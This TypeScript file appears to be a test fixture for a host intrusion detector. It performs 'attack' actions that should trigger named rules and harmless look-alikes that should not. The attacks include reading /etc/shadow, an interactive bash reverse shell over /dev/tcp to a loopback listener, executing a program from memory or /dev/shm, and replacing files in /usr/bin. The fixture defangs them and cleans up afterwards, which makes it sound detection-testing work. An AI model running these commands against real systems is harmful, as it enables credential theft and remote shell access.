// The deeds: those that must raise a detection, and harmless ones that look like them. Each does the least it takes.
import { execFileSync, spawn } from "node:child_process";
import { once } from "node:events";
import { copyFileSync, linkSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:net";
import { join } from "node:path";

export interface Act {
  name: string;
  /** The starter rule that must match, and only it; undefined for a deed that must raise nothing. */
  rule?: string;
  /** Does it for real and cleans up; `folder` is the test's own. */
  perform: (folder: string) => void | Promise<void>;
}

/** The distribution's programs, whatever else the caller's PATH has before them. */
const ENV = { PATH: "/usr/sbin:/usr/bin:/sbin:/bin" };

/** Runs a program and waits for its end; what it prints and how it ends is its own affair. */
function run(command: string, ...args: string[]): void {
  try {
    execFileSync(command, args, { env: ENV, stdio: "ignore" });
  } catch (error) {
    if ((error as NodeJS.ErrnoException).code === "ENOENT") throw error;
  }
}

/** A bash whose redirections `script` makes, PORT being a listener on loopback that says "exit" and hangs up. */
async function bashTowardsListener(script: string): Promise<void> {
  const server = createServer((socket) => {
    socket.on("error", () => undefined);
    socket.end("exit\n");
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  const { port } = server.address() as { port: number };
  const child = spawn("bash", ["-c", script.replaceAll("PORT", String(port))], { env: ENV, stdio: "ignore" });
  await once(child, "close");
  server.close();
}

/** Python makes a file in memory from /bin/true; `then` says what becomes of it. */
function memoryFile(then: string): void {
  const make = 'import os; fd = os.memfd_create("x"); os.write(fd, open("/bin/true", "rb").read())';
  run("python3", "-c", `${make}; ${then}`);
}

/** A copy of `true` in a folder of its own below `parent`, gone afterwards. */
function inFolderBelow(parent: string, use: (program: string) => void): void {
  const folder = mkdtempSync(join(parent, "nightjar-test-"));
  try {
    const program = join(folder, "program");
    copyFileSync("/bin/true", program);
    use(program);
  } finally {
    rmSync(folder, { recursive: true });
  }
}

/**
 * A program of the test's own in /usr/bin, linked there before `use` (that neither writes nor renames a file) and gone
 * after it; `made` is the same file, outside of the programs' directories.
 */
function programInUsrBin(use: (program: string, made: string) => void): void {
  const name = `nightjar-test-${process.pid}`;
  const program = join("/usr/bin", name);
  const made = join("/usr", name);
  copyFileSync("/bin/true", made);
  try {
    linkSync(made, program);
    use(program, made);
  } finally {
    rmSync(program, { force: true });
    rmSync(made, { force: true });
  }
}

export const attacks: readonly Act[] = [
  {
    name: "cat reads /etc/shadow",
    rule: "Secret file read by an unexpected program",
    perform: () => run("cat", "/etc/shadow"),
  },
  {
    name: "a shell with its input and output on a TCP connection",
    rule: "Shell with its input and output on a network connection",
    perform: () => bashTowardsListener("bash --norc -i >& /dev/tcp/127.0.0.1/PORT 0>&1"),
  },
  {
    name: "a program runs from memory",
    rule: "Program executed from memory",
    perform: () => memoryFile('os.execve(f"/proc/self/fd/{fd}", ["true"], {})'),
  },
  {
    name: "a program runs from /dev/shm",
    rule: "Program executed from shared memory",
    perform: () => inFolderBelow("/dev/shm", (program) => run(program)),
  },
  {
    name: "/etc/passwd is opened for writing",
    rule: "Account file written by an unexpected program",
    // Opened for appending and closed again: nothing is written.
    perform: () => run("sh", "-c", ": >> /etc/passwd"),
  },
  {
    name: "a file of /usr/bin is overwritten",
    rule: "System program written by an unexpected program",
    perform: () => programInUsrBin((program) => run("cp", "/bin/true", program)),
  },
  {
    name: "a file of /usr/bin is replaced by renaming another over it",
    rule: "Account file or program replaced by renaming",
    // Two names of one file are left as they are: what is moved has to be another.
    perform: () =>
      programInUsrBin((program, made) => {
        rmSync(made);
        copyFileSync("/bin/true", made);
        run("mv", "-f", made, program);
      }),
  },
];

export const lookAlikes: readonly Act[] = [
  { name: "cat reads /etc/passwd", perform: () => run("cat", "/etc/passwd") },
  { name: "ls looks at /etc/shadow without opening it", perform: () => run("ls", "-l", "/etc/shadow") },
  {
    name: "a shell talks to a TCP connection on another descriptor",
    perform: () => bashTowardsListener("exec 3<>/dev/tcp/127.0.0.1/PORT; read -r line <&3; sh -c true"),
  },
  { name: "a shell with its input on a pipe", perform: () => run("sh", "-c", "echo true | sh") },
  { name: "a file in memory that nobody runs", perform: () => memoryFile("os.close(fd)") },
  {
    name: "a program runs from a temporary folder",
    perform: (folder) => inFolderBelow(folder, (program) => run(program)),
  },
  {
    name: "data is written to and read from /dev/shm",
    perform: () => inFolderBelow("/dev/shm", (program) => run("cat", program)),
  },
  {
    name: "a file called passwd is written elsewhere",
    perform: (folder) => {
      writeFileSync(join(folder, "passwd"), "");
      run("sh", "-c", `echo root >> ${folder}/passwd`);
    },
  },
  {
    name: "a file called passwd is replaced by renaming elsewhere",
    perform: (folder) => {
      writeFileSync(join(folder, "new"), "");
      run("mv", "-f", join(folder, "new"), join(folder, "passwd"));
    },
  },
  { name: "a program of /usr/bin is copied away", perform: (folder) => run("cp", "/usr/bin/env", folder) },
];
